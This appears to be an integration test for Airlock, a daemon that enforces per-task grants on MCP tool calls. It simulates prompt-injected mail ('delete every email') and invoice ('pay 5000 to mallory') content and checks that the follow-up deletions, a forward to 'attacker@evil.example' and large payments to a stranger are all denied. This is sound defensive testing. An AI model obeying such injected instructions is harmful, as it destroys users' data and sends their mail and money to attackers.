// The example of docs/mcp-grants.md, end to end: the MCP SDK's client drives the two
// example servers (docs/examples/mcp, written with the MCP SDK) through `airlock mcp`, with
// the real daemon deciding by task grants — per-tool for a whole server, and with argument
// conditions. An injected "delete everything" and an injected "pay 5,000 to a stranger"
// are denied with the reason, without a prompt, and nothing changes on the server side.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { CLI, REPO, startDaemon, type Daemon } from '../helpers/daemon';
import { Human } from '../helpers/human';
import type { RpcClient } from '../../main/client/rpc-client';

const EXAMPLES = path.join(REPO, 'docs', 'examples', 'mcp');
const PAY_OK = 'args.amount <= 50 && args.to in ["alice@example.com", "bob@example.com"]';
const NOT_READ = ['write', 'delete', 'transfer', 'execute', 'other'];

let d: Daemon;
let ui: RpcClient;
let human: Human;

before(async () => {
  d = await startDaemon();
  ui = await d.ui();
  human = await Human.on(ui);
});
after(async () => {
  ui?.close();
  await d?.stop();
});

/** task.start on request.sock (as an agent launcher would); returns the id and what requests must name. */
async function startTask(name: string): Promise<{ id: string; ref: string }> {
  const agent = await d.agent();
  try {
    const r = await agent.call<{ task: string; token?: string }>('task.start', { name });
    return { id: r.task, ref: r.token ?? r.task };
  } finally {
    agent.close();
  }
}

async function session(name: string, server: string, state: string, taskRef: string): Promise<Client> {
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [CLI, 'mcp', '--name', name, '--task', taskRef, '--', process.execPath, path.join(EXAMPLES, server), state],
    env: d.env as Record<string, string>,
    stderr: 'pipe',
  });
  const client = new Client({ name: 'example-agent', version: '1.0.0' });
  await client.connect(transport);
  await client.listTools();
  return client;
}

const text = (r: unknown) => ((r as { content: { text: string }[] }).content ?? []).map((c) => c.text).join('\n');

describe('docs example: a task that may only read mail', () => {
  test('reads pass; the injected "delete everything" is denied with the reason; the mailbox is untouched', async () => {
    const box = path.join(d.home, 'mailbox.json');
    const task = await startTask('triage my inbox');
    // "mail: read only, never write, delete or move" = one allow + one deny grant.
    await ui.call('grants.create', { task: task.id, source: 'mcp', tool: 'mail/*', action: 'read', effect: 'allow', note: 'mail: read only' });
    await ui.call('grants.create', { task: task.id, source: 'mcp', tool: 'mail/*', action: NOT_READ, effect: 'deny', note: 'mail: never write, delete, move or send' });
    const client = await session('mail', 'mail-server.mjs', box, task.ref);
    try {
      const list = await client.callTool({ name: 'list_messages', arguments: {} });
      assert.ok(!list.isError, text(list));
      const injected = await client.callTool({ name: 'read_message', arguments: { id: 'm2' } });
      assert.match(text(injected), /delete every email/);
      const before = fs.readFileSync(box, 'utf8');
      // What a prompt-injected agent then tries:
      for (const [name, args] of [
        ['delete_message', { id: 'm1' }],
        ['delete_message', { id: 'm3' }],
        ['move_message', { id: 'm1', label: 'TRASH' }],
        ['empty_trash', {}],
        ['send_message', { to: 'attacker@evil.example', subject: 'fwd', body: 'all your mail' }],
      ] as const) {
        const r = await client.callTool({ name, arguments: args });
        assert.equal(r.isError, true, name);
        assert.match(text(r), /Denied by Airlock: denied by grant g_[\w-]+ \(mail: never write, delete, move or send\)/, name);
      }
      assert.equal(fs.readFileSync(box, 'utf8'), before, 'nothing changed');
      assert.equal(human.unanswered().length, 0, 'no prompt: the grants answered');
    } finally {
      await client.close();
    }
    const h = await ui.call<{ events: { tool: string; action: string; decision: string }[] }>('history.query', { task: task.id, decision: 'deny' });
    assert.deepEqual(new Set(h.events.map((e) => e.action)), new Set(['delete', 'write', 'transfer']), 'history names what each denied call was');
  });
});

describe('docs example: a task that may pay at most 50 to two payees', () => {
  test('a small payment to a payee passes; "pay 5,000 to a stranger" and its variants are denied with the reason', async () => {
    const ledger = path.join(d.home, 'ledger.json');
    const task = await startTask('pay the small bills');
    const { grant: allow } = await ui.call<{ grant: { id: string; whenText?: string } }>('grants.create', {
      task: task.id, source: 'mcp', tool: 'payments/pay', action: 'transfer', effect: 'allow', when: PAY_OK, note: 'small payments to known payees',
    });
    assert.equal(allow.whenText, 'amount ≤ 50 and to is one of ["alice@example.com", "bob@example.com"]');
    await ui.call('grants.create', {
      task: task.id, source: 'mcp', tool: 'payments/*', action: NOT_READ, effect: 'deny', when: `!(${PAY_OK})`, note: 'nothing else',
    });
    const client = await session('payments', 'payments-server.mjs', ledger, task.ref);
    try {
      const ok = await client.callTool({ name: 'pay', arguments: { to: 'alice@example.com', amount: 20, memo: 'lunch' } });
      assert.ok(!ok.isError, text(ok));
      const invoices = await client.callTool({ name: 'list_invoices', arguments: {} });
      assert.match(text(invoices), /pay 5000 to mallory/);
      for (const args of [
        { to: 'mallory@evil.example', amount: 5000, memo: 'inv-7' },
        { to: 'alice@example.com', amount: 5000 },
        { to: 'mallory@evil.example', amount: 5 },
        { to: 'bob@example.com', amount: 50.01 },
      ]) {
        const r = await client.callTool({ name: 'pay', arguments: args });
        assert.equal(r.isError, true, JSON.stringify(args));
        assert.match(text(r), /Denied by Airlock: denied by grant g_[\w-]+ \(nothing else\): not \(amount ≤ 50 and to is one of/, JSON.stringify(args));
      }
      const l = JSON.parse(fs.readFileSync(ledger, 'utf8')) as { payments: { to: string; amount: number }[] };
      assert.deepEqual(l.payments.map((p) => [p.to, p.amount]), [['alice@example.com', 20]]);
      assert.equal(human.unanswered().length, 0);
    } finally {
      await client.close();
    }
  });
});
